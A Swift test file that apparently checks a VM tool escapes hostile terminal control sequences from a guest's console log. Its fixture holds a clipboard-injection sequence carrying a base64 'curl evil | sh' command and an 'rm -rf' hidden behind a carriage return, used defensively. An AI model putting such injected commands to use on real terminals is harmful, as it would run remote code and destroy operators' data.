import Foundation
import HVTestSupport
import Testing

extension ZeroTrustTests {
    /// A guest's escape sequences reach the operator as text: no screen clearing, no cursor moves,
    /// no clipboard (OSC 52), no hidden line; `--raw` passes them on for those who want them.
    @Test func consoleControlSequencesAreShownNotObeyed() async throws {
        try withStack { stack in
            let name = "hv-it-hostile-console"
            let log = stack.consoleDirectory + "/\(name).log"
            clean(stack, [name])
            defer {
                clean(stack, [name])
                try? FileManager.default.removeItem(atPath: log)
            }
            let created = try stack.hv(
                ["vm", "create", name, "--memory", "128M", "--disk", "1G"], as: Stack.operatorUser
            )
            try #require(created.status == 0, "\(created)")
            // What a hostile guest prints on its serial port, as virtlogd would have written it:
            // set the clipboard, clear the screen, hide a line behind a carriage return, then CSI as
            // a C1 character and as a raw byte (which the broker, sending text, turns into U+FFFD).
            let hostile = "boot ok\r\n\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}\u{1B}[2J\u{1B}[Hsafe\rrm -rf\r\n\u{9B}31m"
            try FileManager.default.createDirectory(atPath: stack.consoleDirectory, withIntermediateDirectories: true)
            try Data(Array(hostile.utf8) + [0x9B, 0x33, 0x31, 0x6D, 0x0A]).write(to: URL(fileURLWithPath: log))

            let shown = try stack.hv(["vm", "log", name], as: Stack.operatorUser)
            #expect(shown.status == 0, "\(shown)")
            let controls = shown.stdout.unicodeScalars.filter { scalar in
                (scalar.value < 0x20 && scalar != "\n") || (0x7F...0x9F).contains(scalar.value)
            }
            #expect(controls.isEmpty, "\(shown.stdout.debugDescription)")
            #expect(
                shown.stdout.contains("boot ok\n^[]52;c;Y3VybCBldmlsIHwgc2g=^G^[[2J^[[Hsafe^Mrm -rf\n<U+009B>31m"),
                "\(shown.stdout.debugDescription)"
            )

            let raw = try stack.hv(["vm", "log", name, "--raw"], as: Stack.operatorUser)
            #expect(raw.stdout.contains("\u{1B}]52;c;"), "\(raw.stdout.debugDescription)")
        }
    }
}
